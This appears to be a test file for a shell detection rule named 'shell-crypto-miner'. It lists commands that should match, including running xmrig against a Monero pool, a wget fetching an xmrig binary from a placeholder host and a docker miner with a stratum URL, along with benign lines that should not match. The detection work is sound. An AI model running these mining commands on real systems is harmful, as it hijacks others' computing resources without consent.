# ruleid: shell-crypto-miner
./xmrig -o pool.minexmr.com:4444 -u 44abc -p x
# ruleid: shell-crypto-miner
wget -qO- https://example.test/xmrig | tee m
# ruleid: shell-crypto-miner
docker run miner --url stratum+tcp://pool.example.test:3333
# ok: shell-crypto-miner
nproc
# ok: shell-crypto-miner
curl https://pool.ntp.org
# ok: shell-crypto-miner
ping -c 1 0.pool.ntp.org
# a decoy: xmrig -o pool.minexmr.com:4444
